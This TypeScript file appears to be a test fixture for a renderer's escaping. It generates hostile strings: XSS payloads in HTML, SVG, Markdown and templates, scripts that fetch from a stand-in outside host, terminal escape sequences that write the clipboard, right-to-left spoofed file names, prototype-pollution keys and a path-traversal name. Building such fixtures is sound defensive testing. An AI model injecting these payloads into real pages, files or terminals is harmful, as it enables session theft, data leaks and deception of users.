/** Text that a hostile agent, repository, chat or receiver writes wherever it can: to run in a page, to fetch from elsewhere, to imitate the page, or to break it. */

/** A script that would run. It leaves a mark on the page and sends a request to another host. */
const act = (far: string) => `window.__canary=1;document.title='owned';fetch('${far}/ran');alert(1)`

/** All of it, where a text may be long. `far` is a URL that must get no request. */
export function longText(far: string): string {
  const run = act(far)
  return [
    shortText(far),
    `<script>${run}</script><script src="${far}/script.js"></script>`,
    `<img src="${far}/image.png" onerror="${run}"><svg onload="${run}"><use href="${far}/use.svg#x"/></svg>`,
    `<iframe src="javascript:${run}"></iframe><iframe srcdoc="<script>parent.${run}</script>"></iframe><object data="${far}/object"></object><embed src="${far}/embed">`,
    `<style>@import "${far}/style.css"; * { display: none !important; background: url(${far}/background) }</style><link rel="stylesheet" href="${far}/link.css">`,
    `<base href="${far}/"><meta http-equiv="refresh" content="0;url=${far}/refresh"><form action="${far}/form"><input autofocus onfocus="${run}"></form>`,
    `"' autofocus onfocus=${run} onmouseover=${run} style=position:fixed;inset:0 x="`,
    `--></title></textarea></script><plaintext>`,
    `{{constructor.constructor('${run}')()}} \${${run}} <%= ${run} %>`,
    `[a](javascript:${run}) [b](data:text/html,<script>${run}</script>) [c](JaVaScRiPt&colon;${run}) [d](vbscript:x) <javascript:${run}>`,
    `![remote](${far}/markdown.png) ![inline](data:image/svg+xml,%3Csvg%20onload=alert(1)%3E) [ref]: javascript:${run}`,
    '',
    '[ref] <details open ontoggle="window.__canary=1"><summary>x</summary></details>',
    '',
    `| a | b |\n| - | - |\n| <img src="${far}/table.png" onerror="${run}"> | \`</code><script>${run}</script>\` |`,
    '',
    `\`\`\`html\n<script>${run}</script>\n\`\`\``,
    terminal(far),
    '__proto__ constructor prototype toString hasOwnProperty valueOf',
    'Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034dA\u036b\u0357\u0334\u0362\u0335\u031c\u0330\u0354 \u{12031}\u{12031} \ufdfd 👩‍👩‍👧‍👦',
    'W'.repeat(3000),
  ].join('\n')
}

/** For a title, a name, a path: at most 200 characters, on one line. */
export function shortText(far: string): string {
  return `"'><img src=${far}/i onerror=window.__canary=1><svg onload=alert(1)> ${turned}`
}

/** Shorter still, and without what a name of a file or a branch may not hold. */
export const tinyText = `<img\u00a0src=x\u00a0onerror=alert(1)>\u202egpj.sh`

/** It reads as other than it is. */
export const turned = 'safe\u202egnp.exe\u202c \u2066iso\u2069 zero\u200bwidth \ufeff שלום العربية'

/** Bytes that move a terminal's cursor, write its clipboard, set its title and make links. */
export function terminal(far: string): string {
  return `\u001b[31mred\u001b]0;owned\u0007\u001b]52;c;aGFja2Vk\u0007\u001b]8;;${far}/osc8\u0007link\u001b]8;;\u0007\u001b[2J\u009b31m\u0008\u0008`
}

/** A picture that is a program, too. */
export function picture(far: string): string {
  return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink" width="60" height="60" onload="${act(far)}"><script>${act(far)}</script><image x:href="${far}/in-svg.png" width="9" height="9"/><style>@import "${far}/in-svg.css";</style><foreignObject width="60" height="60"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${far}/in-svg"/></foreignObject><rect width="60" height="60" fill="#c33"/></svg>`
}

/** Names a file of a repository may have. */
export const fileNames = [
  'plain.ts',
  '__proto__',
  'constructor',
  `<img src=x onerror=window.__canary=1>.html`,
  `quote"' and space.md`,
  'line\nbreak.txt',
  'tab\tand\u001bescape.txt',
  'turned\u202etxt.exe',
  'zero\u200bwidth.ts',
  'עברית/ملف.txt',
  `${'deep/'.repeat(12)}${'w'.repeat(120)}.ts`,
  '../../etc/passwd'.replaceAll('..', '…'),
  'javascript:alert(1).svg',
]
